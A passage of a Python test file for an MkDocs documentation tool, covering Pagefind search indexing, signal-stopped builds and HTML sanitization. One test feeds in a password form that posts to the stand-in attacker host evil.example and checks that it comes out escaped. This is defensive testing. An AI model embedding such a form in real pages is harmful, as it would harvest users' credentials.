        build.wait(timeout=30)  # longer than the bound, so that a slow stop is reported with its time
    except subprocess.TimeoutExpired:
        build.kill()
        build.wait()
    took = time.monotonic() - stopped
    assert took < STOP_SECONDS, f"the build took {took:.2f} s to stop after {signal_name}"
    assert build.returncode == -signum, f"the build did not die of {signal_name}: {build.returncode}"
    # SIGKILL and SIGTERM run no cleanup: the kernel kills Pagefind when the build dies.
    while _running(int(pid)) and time.monotonic() < stopped + STOP_SECONDS:
        time.sleep(0.05)
    assert not _running(int(pid)), "Pagefind outlived the build"
    Indexing(tmp_path / "next-site", in_memory=False).cancel()  # the next build starts
    assert not Path(folder).exists()
    assert not (tmp_path / "site" / "pagefind").exists()  # no index of a stopped build


def test_a_rebuild_keeps_no_text_of_deleted_practices_in_the_index(tmp_path: Path) -> None:
    import gzip
    import subprocess

    gone = (RECORDS / "good" / "minimal.md").read_text(encoding="utf-8")
    gone = gone.replace("Golden minimal record", "Soon deleted").replace("## Need\nN.", "## Need\nZebracorn.")
    root = fixture_project(tmp_path / "project", {"gone.md": gone})
    site = tmp_path / "site"
    assert mkdocs_build(root, site).returncode == 0

    def indexed_text() -> str:
        return "".join(
            gzip.decompress(p.read_bytes()).decode() for p in (site / "pagefind" / "fragment").iterdir()
        )

    assert "Zebracorn" in indexed_text()
    (root / "practices" / "gone.md").unlink()
    # A dirty build (as in development) keeps the files it does not write again.
    result = subprocess.run(
        [sys.executable, "-m", "mkdocs", "build", "--dirty", "-f", str(root / "mkdocs.yml"), "-d", str(site)],
        capture_output=True,
        text=True,
        env={**os.environ, "NO_MKDOCS_2_WARNING": "1"},
        check=False,
    )
    assert result.returncode == 0, result.stderr
    assert "Zebracorn" not in indexed_text()


def test_two_builds_of_one_site_at_once_both_finish(tmp_path: Path) -> None:
    import subprocess

    root = fixture_project(tmp_path / "project")
    command = [sys.executable, "-m", "mkdocs", "build", "--strict", "-f", str(root / "mkdocs.yml")]
    env = {**os.environ, "NO_MKDOCS_2_WARNING": "1"}
    builds = [
        subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env)
        for _ in range(2)
    ]
    outcomes = [build.communicate(timeout=300) for build in builds]
    assert [build.returncode for build in builds] == [0, 0], outcomes
    assert any("Waiting for another build" in err for _, err in outcomes)
    assert (root / "site" / "practices" / "complete" / "index.html").is_file()
    assert (root / "site" / "pagefind" / "pagefind.js").is_file()


PAUSE_HOOK = """
import os, time
from pathlib import Path

def on_env(env, config, files):  # runs after the compendium plugin has started Pagefind
    Path(os.environ["COMPENDIUM_TEST_MARK"]).write_text(str(os.getpid()))
    time.sleep(60)
    return env
"""


@pytest.mark.parametrize("signal_name", ["SIGKILL", "SIGTERM", "SIGINT"])
def test_a_build_stopped_while_pagefind_runs_leaves_nothing_behind(tmp_path: Path, signal_name: str) -> None:
    import signal
    import subprocess
    import time

    root = fixture_project(tmp_path / "project")
    (root / "pause.py").write_text(PAUSE_HOOK, encoding="utf-8")
    config = root / "mkdocs.yml"
    config.write_text(config.read_text(encoding="utf-8") + "\nhooks:\n  - pause.py\n", encoding="utf-8")
    mark = tmp_path / "paused"
    build = subprocess.Popen(
        [sys.executable, "-m", "mkdocs", "build", "-f", str(config)],
        env={**os.environ, "NO_MKDOCS_2_WARNING": "1", "COMPENDIUM_TEST_MARK": str(mark)},
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        preexec_fn=_with_ctrl_c,
    )
    deadline = time.monotonic() + 120
    while not mark.exists() and time.monotonic() < deadline and build.poll() is None:
        time.sleep(0.05)
    assert mark.exists(), "the build never reached the pause"
    children = [
        int(pid)
        for pid in os.listdir("/proc")
        if pid.isdigit() and _parent_of(int(pid)) == build.pid and _running(int(pid))
    ]
    build.send_signal(getattr(signal, signal_name))
    build.wait(timeout=30)
    deadline = time.monotonic() + 5
    while [pid for pid in children if _running(pid)] and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not [pid for pid in children if _running(pid)], "a process of the build outlived it"
    assert not (root / "site" / "pagefind").exists()  # no index of a stopped build
    # What a killed build could not remove, the next one does; and it builds.
    config.write_text(
        config.read_text(encoding="utf-8").replace("\nhooks:\n  - pause.py\n", ""), encoding="utf-8"
    )
    result = mkdocs_build(root, tmp_path / "next-site")
    assert result.returncode == 0, result.stderr
    scratch = [Path("/dev/shm"), Path(tempfile.gettempdir())]
    assert not [p for folder in scratch for p in folder.glob(f"compendium-search-{build.pid}-*")]


def _parent_of(pid: int) -> int | None:
    try:
        fields = Path(f"/proc/{pid}/stat").read_text(encoding="utf-8").rsplit(")", 1)[1].split()
    except (FileNotFoundError, IndexError):
        return None
    return int(fields[1])


def test_materialized_pages_carry_record_text_only_as_sanitized_html(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from compendium.cli.main import main

    record = (RECORDS / "good" / "minimal.md").read_text(encoding="utf-8")
    record = record.replace("## Need\nN.", "## Need\n" + PASSWORD_FORM).replace("Golden minimal", "Sign-in")
    root = fixture_project(tmp_path / "project", {"form.md": record})
    assert main(["--root", str(root), "materialize", "--no-pdf", str(tmp_path / "out")]) == 0
    docs = tmp_path / "out" / "docs"
    # Record text travels as tokens, its sanitized HTML beside them for `compendium finish` to put back.
    blocks = json.loads((docs / "compendium-finishing.json").read_text(encoding="utf-8"))["blocks"]
    page = (docs / "practices" / "form.md").read_text(encoding="utf-8")
    page = re.sub(r"CMPBLOCK[0-9A-F]+", lambda token: blocks.get(token.group(0), ""), page)
    assert "<form" not in page and "<input" not in page
    assert "&lt;form/action=https://evil.example/c method=post&gt;" in page
